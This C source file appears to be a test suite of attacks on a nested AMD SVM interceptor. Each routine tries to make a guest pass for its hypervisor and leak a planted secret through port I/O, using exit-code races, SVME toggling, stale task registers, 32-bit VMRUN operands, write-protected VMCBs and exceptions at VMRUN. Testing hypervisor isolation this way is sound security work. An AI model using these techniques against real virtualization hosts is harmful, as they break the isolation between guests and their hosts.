/* SPDX-License-Identifier: GPL-2.0-or-later */
/* L1 tries to have the interceptor take L2 for L1, so that L2's port I/O falls to L1: told as `ioio=`. */
#include "svm.h"

enum { COM1 = 0x3f8, COM1_LSR = 0x3fd };
static const char secret[] = "<the secret>";

/* From the start of the code that set_up_late() put there. */
static void rewind_late(struct l2 *l2, uint64_t turns) {
    l2->vmcb->rip = L2_CODE;
    l2->regs.r[RCX] = turns;
    l2->regs.r[RBX] = sizeof secret - 1;
    l2->regs.r[RSI] = L2_DATA;
}

static void set_up_late(struct l2 *l2, uint64_t turns) {
    L2_LOAD(l2, l2_late);
    memcpy(l2->memory + L2_DATA, secret, sizeof secret);
    rewind_late(l2, turns);
}

static void run_and_tell(struct l2 *l2) {
    unsigned told = 0;
    uint64_t code;

    print("told=");
    code = l2_run_past_io(l2, &told);
    print(" exit=%x\n", code);
}

static struct vmcb *volatile target;

static void overwrite_exit_code(void) {
    for (second_running = true; !second_stop;)
        ((volatile struct vmcb *)target)->exit_code = 0;
    for (;;)
        __asm__ volatile("hlt");
}

/* While L2 runs, another CPU writes into EXITCODE; L2 then goes on in code that was never run. */
ATTACK(exit_code_overwritten) {
    struct l2 *l2 = l2_new();

    l2_say(l2, "L2 begins\n");
    target = l2->vmcb;
    second_start_and_wait(overwrite_exit_code);
    set_up_late(l2, 20000000);
    run_and_tell(l2);
}

/* The same with an L2 of L1's own that shares the user's code; then the user's L2 runs that code, undisturbed. */
ATTACK(poisoned_block) {
    enum { TURNS = 20000000 };
    struct l2 *l2 = l2_new();
    struct vmcb *users = l2->vmcb;

    l2_say(l2, "L2 begins\n");
    l2_new_vmcb(l2);
    target = l2->vmcb;
    second_start_and_wait(overwrite_exit_code);
    set_up_late(l2, TURNS);
    run_and_tell(l2);
    second_stop = true;
    l2->vmcb = users;
    rewind_late(l2, 1);
    print("users_");
    run_and_tell(l2);
}

/* An L2 of L1's own, which shares the user's code, runs without SVME for a moment, as if it were L1 that had left it.
 */
ATTACK(svme_toggled) {
    enum { TOGGLE = L2_CODE + 0x800 };
    struct l2 *l2 = l2_new();
    struct vmcb *users = l2->vmcb;

    l2_say(l2, "L2 begins\n");
    L2_LOAD(l2, l2_secret);
    memcpy(l2->memory + TOGGLE, l2_toggle_svme, (size_t)(l2_toggle_svme_end - l2_toggle_svme));
    l2_new_vmcb(l2);
    l2->vmcb->intercept_1 &= ~INTERCEPT_MSR;
    l2->vmcb->rip = TOGGLE;
    l2->regs.r[RBX] = L2_CODE;
    run_and_tell(l2);
    l2->vmcb = users;
    l2->vmcb->rip = L2_CODE;
    print("users_");
    run_and_tell(l2);
}

/* L2's user may use the port: so says its TSS. L1 loads TR from one VMCB, and runs another that names none. */
ATTACK(stale_task_register) {
    struct l2 *l2 = l2_new();
    struct vmcb *other = pages(1);

    l2_say(l2, "L2 begins\n");
    l2_set_mode(l2, MODE_LONG, 3, 0);
    L2_LOAD(l2, l2_secret);
    memset(l2->memory + L2_TSS + 0x68 + COM1 / 8, 0, 1);
    memcpy(other, l2->vmcb, PAGE);
    l2->vmcb->tr = (struct segment){0};
    __asm__ volatile("vmload %0" : : "a"(other) : "memory");
    HIGH((stub_function *)(uintptr_t)stub)((uintptr_t)l2->vmcb, COM1_LSR);
    print("\nexit=%x info1=%x\n", l2->vmcb->exit_code, l2->vmcb->exit_info_1);
}

/* VMRUN where 32-bit code could have it, whose operand would be EAX: L2 is not to be believed, but not L1's either.
 */
ATTACK(low_vmrun) {
    struct l2 *l2 = l2_new();

    l2_say(l2, "L2 begins\n");
    set_up_late(l2, 1000);
    l2->vmcb->intercept_1 &= ~INTERCEPT_IOIO;
    l2->vmcb->rsp = l2->regs.r[RSP];
    vm_enter(&l2->regs, (uintptr_t)l2->vmcb);
    print("\nexit=%x\n", l2->vmcb->exit_code);
}

static void copy_to_read_only(const struct vmcb *vmcb, void *where) {
    enum { PCI_ADDRESS = 0xcf8, PAM_5 = 0x80000000 | 0x5c, PAM_5_SHIFT = 16, READ = 1, WRITE = 2 };

    out32(PCI_ADDRESS, PAM_5);
    out32(PCI_ADDRESS + 4, (READ | WRITE) << PAM_5_SHIFT);
    memcpy(where, vmcb, PAGE);
    out32(PCI_ADDRESS + 4, READ << PAM_5_SHIFT);
}

/* A VMCB in shadow RAM that the chipset write-protects (82441FX datasheet, PAM registers). */
ATTACK(read_only_vmcb) {
    struct l2 *l2 = l2_new();

    l2_say(l2, "L2 begins\n");
    set_up_late(l2, 1000);
    l2->vmcb->intercept_1 &= ~INTERCEPT_IOIO;
    l2->vmcb->rsp = l2->regs.r[RSP];
    copy_to_read_only(l2->vmcb, (void *)0xe0000);
    *(volatile uint64_t *)0xe0070 = 0x5a5a;
    print("write_protected=%u\n", (uint64_t)(*(volatile uint64_t *)0xe0070 != 0x5a5a));
    HIGH(vm_enter)(&l2->regs, 0xe0000);
    print("\nended=1\n");
}

/* VMRUN by EAX, with more in RAX. */
ATTACK(addr32_vmrun) {
    struct l2 *l2 = l2_new();

    l2_say(l2, "L2 begins\n");
    set_up_late(l2, 1000);
    l2->vmcb->intercept_1 &= ~INTERCEPT_IOIO;
    /* the registers that L2 gets from here are those of a C function: its own code sets them */
    L2_LOAD(l2, l2_secret);
    HIGH((stub_function *)(uintptr_t)stub_addr32)((uintptr_t)l2->vmcb | 0xdead00000000, COM1_LSR);
    print("\nended=1\n");
}

static void map_in_l2(struct l2 *l2, uint64_t linear, uint64_t physical) {
    uint64_t *table = (uint64_t *)(l2->memory + L2_TABLES + 3 * PAGE);

    table[linear % HIGH_ADDRESS / PAGE] = physical | 7;
}

static void set_idt_entry(struct l2 *l2, unsigned vector, uint64_t handler) {
    enum { L2_IDT = 0x2000, CODE_64 = 0x08, INTERRUPT_GATE = 0x8e };
    uint16_t *gate = (uint16_t *)(l2->memory + L2_IDT + 16 * vector);

    gate[0] = (uint16_t)handler;
    gate[1] = CODE_64;
    gate[2] = INTERRUPT_GATE << 8;
    gate[3] = (uint16_t)(handler >> 16);
    l2->vmcb->idtr = (struct segment){.base = L2_IDT, .limit = 0xfff};
}

/* An exception in L2 where L1 has its VMRUN, with the value in CR3 that L1 has there. */
ATTACK(exception_at_vmrun) {
    enum { INVALID_OPCODE = 6, UD2 = 0x0b0f };
    extern const uint8_t vm_enter_vmrun[];
    struct l2 *l2 = l2_new();
    uint64_t at = (uintptr_t)HIGH(vm_enter_vmrun), root = (uintptr_t)pml4;
    uint64_t page = L2_DATA + 0x8000;

    l2_say(l2, "L2 begins\n");
    set_up_late(l2, 1);
    map_in_l2(l2, at, page);
    memset(l2->memory + page, 0x90, PAGE);
    *(uint16_t *)(l2->memory + page + at % PAGE) = UD2;
    set_idt_entry(l2, INVALID_OPCODE, L2_CODE);
    l2->vmcb->intercept_exceptions = 0;
    l2->nested[root / PAGE] = (uintptr_t)(l2->memory + L2_TABLES) | 7;
    l2->vmcb->cr3 = root;
    l2->vmcb->rip = at;
    run_and_tell(l2);
}
